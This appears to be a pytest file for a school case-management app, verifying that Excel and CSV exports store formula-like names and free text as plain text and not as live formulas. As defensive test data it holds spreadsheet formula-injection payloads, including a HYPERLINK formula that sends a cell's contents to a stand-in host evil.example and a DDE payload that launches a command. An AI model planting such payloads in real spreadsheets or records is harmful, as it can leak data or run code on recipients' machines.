"""No formula ever leaves the program (issue 14 point 4).

Measured before: a guardian named ``=1+1`` and free text such as
``=HYPERLINK("http://evil.example/?d="&C5,"详情")`` and ``=cmd|' /C calc'!A0`` came out as live
formula cells in export-ledger workbooks (4 in the open-case ledger, 2 in the census ledger) and in
the roster error report. A school could send such a name to the district in a package. Every
workbook is read back with openpyxl: no cell is a formula, each shows exactly what was typed.
"""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import update

from database.models import Case, Student
from desktop_app.domain.census import clean_row
from desktop_app.domain.errors import ValidationError
from desktop_app.domain.names import name_problem
from desktop_app.reports import excel, supervision
from desktop_app.services import care, cases, census, demo
from desktop_app.services.store import Store
from tests.factories import full_form
from tests.helpers.cli import run

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C5,"详情")'
DDE = "=cmd|' /C calc'!A0"
RISKY = ("=1+1", HYPERLINK, DDE, "+86 138 0000 0000", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")


def formulas(path: Path) -> list[str]:
    """Every formula cell of the workbook (none, as it should be)."""
    wb = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}={c.value}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def texts(path: Path) -> set[Any]:
    wb = load_workbook(path)
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None}


def test_a_leading_tab_or_carriage_return_is_refused_or_trimmed_away() -> None:
    assert name_problem("\t张三") and name_problem("\r张三")  # the rule itself
    record, _reason = clean_row("census", 5, {"name": "\t王明", "guardian_name": "\r王大山", "birth_date": "2014-03-01"})
    assert record is not None and (record.name, record.guardian_name) == ("王明", "王大山")  # cells are trimmed first


@pytest.mark.parametrize("name", ["=1+1", "+1", "-李", "@王"])
def test_names_beginning_like_a_formula_are_refused_by_the_name_rule(store: Store, name: str) -> None:
    assert name_problem(name)
    with pytest.raises(ValidationError, match="监护人1姓名") as err:
        cases.save_form(store, full_form(guardian1_name=name))
    assert "不能以" in str(err.value)
    with pytest.raises(ValidationError, match="姓名"):
        cases.save_form(store, full_form(name=name))
    record, reason = clean_row("census", 5, {"name": "王明", "guardian_name": name, "birth_date": "2014-03-01"})
    assert record is None and "不能以" in reason
    assert name_problem("王=明") is None and name_problem("欧阳-娜娜") is None  # only the first character counts


def _risky_store(store: Store) -> str:
    """A case whose free text holds formulas, and a guardian named =1+1 as a package could once bring."""
    case_id = cases.save_form(store, full_form(reason_detail=HYPERLINK, responsible_person=DDE))
    with store.write() as session:
        student_id = session.get(Case, case_id).student_id  # type: ignore[union-attr]
        session.execute(update(Student).where(Student.id == student_id).values(guardian1_name="=1+1"))
    return case_id


def test_ledgers_and_the_monthly_report_write_text_not_formulas(store: Store, tmp_path: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    _risky_store(store)
    d = str(store.data_dir)
    ledger = tmp_path / "台账.xlsx"
    code, _out, err = run(capsys, "--data-dir", d, "export-ledger", str(ledger))
    assert code == 0, err
    assert formulas(ledger) == []
    assert {"=1+1", HYPERLINK, DDE} <= texts(ledger)  # exactly as typed
    cell = next(c for row in load_workbook(ledger).active.iter_rows() for c in row if c.value == HYPERLINK)
    assert cell.data_type == "s" and cell.quotePrefix  # stays text when edited in Excel too
    month = tmp_path / "月报.xlsx"
    today = dt.date.today()
    code, _out, err = run(capsys, "--data-dir", d, "monthly-report", str(month), "--month", f"{today:%Y-%m}",
                          "--reason", "月报")
    assert code == 0, err
    assert formulas(month) == [] and DDE in texts(month)


def test_the_census_ledger_and_the_care_register_write_text(store: Store, tmp_path: Path,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    demo.load_census(store, 40)
    demo.load_care(store)
    with store.write() as session:
        session.execute(update(Student).values(guardian1_name="=1+1"))
    d = str(store.data_dir)
    path = tmp_path / "摸排.xlsx"
    code, _out, err = run(capsys, "--data-dir", d, "export-ledger", str(path), "--ledger", "census")
    assert code == 0, err
    assert formulas(path) == [] and "=1+1" in texts(path)
    register = tmp_path / "关爱.xlsx"
    code, _out, err = run(capsys, "--data-dir", d, "care-export", "--out", str(register))
    assert code == 0, err
    assert formulas(register) == [] and "=1+1" in texts(register)
    assert care.register_rows(store)  # there was someone to export


def test_the_small_table_writers_and_the_supervision_report_write_text(tmp_path: Path) -> None:
    rows = [[text, 1, "王明"] for text in RISKY] + [["控制字符\x1b在此", 2, "x"]]
    table = tmp_path / "表.xlsx"
    excel.write_table(table, "送教上门记录", "副标题", [("内容", 30), ("次数", 6), ("姓名", 10)], rows)
    # (a carriage return reads back as a line feed: XML's line-end rule, the same line break in Excel)
    expected = {t.replace("\r", "\n") for t in RISKY}
    assert formulas(table) == [] and expected <= texts(table) and "控制字符\\x1b在此" in texts(table)
    report = tmp_path / "督导.xlsx"
    supervision.write(report, "督导情况表", ["学校", "说明"], [["=1+1", DDE]], [False], ["乡镇", "说明"],
                      [[HYPERLINK, "-1"]])
    assert formulas(report) == [] and {"=1+1", DDE, HYPERLINK, "-1"} <= texts(report)
    wb = Workbook(write_only=True)
    sheet = excel.SheetWriter(wb, "s", "=title", "+subtitle", [excel.Column("=列")])
    sheet.append(["=1+1"])
    sheet.append_styled([DDE])
    excel.save_workbook(wb, tmp_path / "w.xlsx")
    assert formulas(tmp_path / "w.xlsx") == [] and {"=title", "+subtitle", "=列", "=1+1", DDE} <= texts(tmp_path / "w.xlsx")


def test_the_roster_error_report_writes_text(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "名册.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["姓名", "身份证号码", "出生日期", "监护人姓名", "备注"])
        writer.writerow(["=1+1", "", "2014-03-01", "王大山", HYPERLINK])
        writer.writerow(["王明", "", "2014-03-01", DDE, "@SUM(A1)"])
    result = census.import_roster(store, path, "census")
    assert result.rejected == 2 and result.report_path is not None
    assert formulas(result.report_path) == []
    assert {"=1+1", HYPERLINK, DDE, "@SUM(A1)"} <= texts(result.report_path)
